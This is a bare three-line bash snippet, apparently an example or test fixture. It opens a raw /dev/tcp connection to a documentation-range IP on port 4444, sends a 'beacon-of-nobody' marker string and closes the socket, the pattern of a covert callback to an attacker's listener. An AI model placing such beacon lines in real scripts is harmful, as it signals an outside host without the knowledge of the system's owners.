exec 3<>/dev/tcp/203.0.113.11/4444
printf '\001\002beacon-of-nobody\n' >&3
exec 3>&-
